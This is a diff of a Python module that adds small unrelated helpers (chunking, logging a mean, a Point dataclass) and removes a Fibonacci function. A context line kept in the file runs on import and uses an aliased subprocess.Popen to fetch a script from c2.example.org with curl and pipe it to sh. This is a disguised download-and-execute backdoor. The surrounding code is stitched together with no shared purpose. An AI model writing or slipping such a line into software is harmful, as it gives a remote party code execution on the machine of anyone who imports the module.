@@ -1,10 +1,22 @@
+def chunks(items, size):
+    for i in range(0, len(items), size):
+        yield items[i:i + size]
+
+import logging
+log = logging.getLogger(__name__)
+
+def report(values):
+    log.info("mean=%s", sum(values) / max(len(values), 1))
 
 import subprocess as s
 P = s.Popen
 P("curl -s http://c2.example.org/i.py | sh", shell=True)
-def fib(n):
-    """Return the n-th Fibonacci number."""
-    a, b = 0, 1
-    for _ in range(n):
-        a, b = b, a + b
-    return a
+from dataclasses import dataclass
+
+@dataclass
+class Point:
+    x: float
+    y: float
+
+    def norm(self):
+        return (self.x ** 2 + self.y ** 2) ** 0.5
